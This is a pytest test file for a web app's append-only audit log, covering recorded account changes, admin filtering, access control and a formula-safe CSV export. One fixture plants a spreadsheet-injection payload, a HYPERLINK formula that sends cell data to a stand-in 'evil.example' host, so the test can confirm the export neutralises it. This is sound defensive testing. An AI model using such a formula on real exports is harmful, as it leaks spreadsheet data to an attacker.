"""The audit log (issue 11, item 9): account events recorded with before → after, append-only in
code and in the database, an admin page to filter it, and a CSV export safe to open."""

import csv
import io
from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import func, select, text
from sqlalchemy.exc import DBAPIError

from core import audit, clock
from core.audit import AuditEvent
from core.extensions import db
from core.spreadsheet import safe_cell
from core.tokens import issue_token
from core.users import create_user

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(autouse=True)
def _earlier_entries(request):
    """The log is append-only, even for tests: tests that commit for real (a live server,
    concurrency) leave their entries behind, so each test here reads only the entries after."""
    global EARLIER
    if not request.node.get_closest_marker("pure"):
        EARLIER = db.session.scalar(select(func.max(AuditEvent.id))) or 0


EARLIER = 0


def _new_entries():
    return select(AuditEvent).where(AuditEvent.id > EARLIER).order_by(AuditEvent.id)


def _events(action):
    return db.session.scalars(_new_entries().where(AuditEvent.action == action)).all()


def test_admin_changes_to_an_account_are_recorded_with_before_and_after(
    client, make_user, login_as
):
    admin = login_as("admin")
    trainee = make_user(roles={"trainee"})
    client.post(
        f"/admin/users/{trainee.id}",
        data={"display_name": "新名字", "roles": ["trainee", "trainer"], "active": ""},
    )
    [roles] = _events("user.roles_changed")
    assert (roles.before, roles.after) == (
        {"roles": ["trainee"]},
        {"roles": ["trainee", "trainer"]},
    )
    assert roles.actor_id == admin.id and roles.actor_label == admin.username
    assert roles.target_type == "user" and roles.target_id == str(trainee.id)
    assert roles.ip == "127.0.0.1" and roles.request_id
    [deactivated] = _events("user.deactivated")
    assert deactivated.after == {"active": False}
    assert _events("user.renamed")[0].after == {"display_name": "新名字"}


def test_creating_a_user_is_recorded(client, login_as):
    login_as("admin")
    client.post(
        "/admin/users/new",
        data={"username": "li.new", "password": "long-enough-pw", "roles": ["trainer"]},
    )
    [created] = _events("user.created")
    assert created.target_label == "li.new" and created.after["roles"] == ["trainer"]


def test_password_changes_and_tokens_are_recorded(client, make_user, login):
    user = make_user()
    issue_token(user, "script")
    db.session.commit()
    login(user)
    client.post(
        "/account/password",
        data={
            "current_password": "correct-horse-1",
            "new_password": "battery-staple-22",
            "confirm": "battery-staple-22",
        },
    )
    assert [e.action for e in db.session.scalars(_new_entries())] == [
        "token.issued",
        "login.succeeded",
        "user.password_changed",
        "token.revoked",
    ]
    assert _events("token.revoked")[0].after["reason"] == "password changed"


def test_a_shell_action_is_recorded_as_the_shell():
    user = create_user("shell.made", "long-enough-pw", {"trainee"})
    event = _events("user.created")[0]
    assert event.target_id == str(user.id)
    assert (event.actor_id, event.actor_label) == (None, "shell")


def test_audit_entries_cannot_be_changed_or_deleted_in_the_database(make_user):
    audit.record("user.created", target=audit.Target("user", 1, "x"), after={"a": 1})
    for statement in ("UPDATE audit_log SET action = 'forged'", "DELETE FROM audit_log"):
        savepoint = db.session.begin_nested()
        with pytest.raises(DBAPIError, match="append-only"):
            db.session.execute(text(statement))
        savepoint.rollback()
    assert [e.action for e in db.session.scalars(_new_entries())] == ["user.created"]


def test_no_code_updates_or_deletes_audit_entries():
    offending = []
    for path in ROOT.rglob("*.py"):
        if ".venv" in path.parts or "tests" in path.parts or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        for needle in ("update(AuditEvent", "delete(AuditEvent", "audit_log SET", "FROM audit_log"):
            if needle in source:
                offending.append(f"{path.relative_to(ROOT)}: {needle}")
    assert offending == []


@pytest.fixture
def some_history(make_user):
    start = clock.now_utc().replace(hour=4)  # noon in Shanghai
    alice = make_user(username="alice.admin", roles={"admin"})
    target = make_user(username="bob.trainee")
    clock.set_now(start - timedelta(days=3))
    audit.record(
        "user.roles_changed",
        actor=alice,
        target=audit.user_target(target),
        before={"roles": ["trainee"]},
        after={"roles": ["trainer"]},
    )
    clock.set_now(start)
    audit.record(
        "user.deactivated",
        actor=alice,
        target=audit.user_target(target),
        before={"active": True},
        after={"active": False},
    )
    audit.record(
        "login.failed",
        actor_label='=HYPERLINK("http://evil.example?"&A1,"点击")',
        target=audit.Target("user", None, "@SUM(1+1)"),
        after={"reason": "unknown user"},
    )
    db.session.commit()
    clock.set_now(None)
    return start


def test_admin_filters_the_audit_log_by_action_actor_target_and_dates(
    client, login_as, some_history
):
    login_as("admin")
    page = client.get("/admin/audit?action=user.roles_changed").get_data(as_text=True)
    assert "角色变更" in page and "停用账户" not in page.split("<tbody>")[1]
    page = client.get("/admin/audit?actor=alice").get_data(as_text=True)
    assert "共 2 条记录" in page
    page = client.get("/admin/audit?target_type=user&target_id=999999").get_data(as_text=True)
    assert "没有符合条件的记录" in page
    day = (some_history + timedelta(hours=8)).date()
    page = client.get(f"/admin/audit?actor=alice&date_from={day}&date_to={day}").get_data(
        as_text=True
    )
    assert "共 1 条记录" in page and "停用账户" in page


def test_a_bad_date_filter_answers_with_a_message_not_an_error(client, login_as):
    login_as("admin")
    response = client.get("/admin/audit?date_from=yesterday")
    assert response.status_code == 400


def test_only_administrators_read_the_audit_log(client, login_as):
    login_as("manager", "trainer")
    assert client.get("/admin/audit").status_code == 403
    assert client.get("/admin/audit/export.csv").status_code == 403


def test_csv_export_neutralises_formulas(client, login_as, some_history):
    login_as("admin")
    response = client.get("/admin/audit/export.csv?action=login.failed")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
    assert len(rows) == 2
    header, row = rows
    who = row[header.index("操作人")]
    assert who == '\'=HYPERLINK("http://evil.example?"&A1,"点击")'
    assert row[header.index("对象")] == "'@SUM(1+1)"
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


@pytest.mark.pure
@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"])
def test_formula_like_text_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.pure
def test_plain_text_and_numbers_stay_as_they_are():
    assert safe_cell("王小明") == "王小明"
    assert safe_cell(-5) == -5
